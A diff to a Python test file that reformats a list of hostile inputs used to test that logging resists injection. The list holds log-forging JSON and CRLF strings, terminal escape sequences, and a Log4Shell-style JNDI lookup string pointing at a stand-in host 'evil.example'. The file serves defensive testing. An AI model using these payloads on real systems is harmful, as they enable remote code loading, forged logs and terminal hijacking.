@@ -104,13 +104,9 @@ def test_an_unexpected_error_reveals_no_internals(ada: Person, monkeypatch: pyte
 
 
 BREAKING = [
-    'a","level":"ERROR","message":"forged',
-    'a\r\n{"level":"ERROR","message":"forged"}',
-    "\x1b[2J\x1b]0;owned\x07",
-    "\u2028\u2029\x85\x0b\x0c",
-    "${jndi:ldap://evil.example/a}",
-    "\x00\ud800",
-]
+    'a","level":"ERROR","message":"forged', 'a\r\n{"level":"ERROR","message":"forged"}', "\x1b[2J\x1b]0;owned\x07",
+    "\u2028\u2029\x85\x0b\x0c", "${jndi:ldap://evil.example/a}", "\x00\ud800",
+]  # fmt: skip
 
 
 @pytest.mark.parametrize("breaking", BREAKING, ids=range(len(BREAKING)))
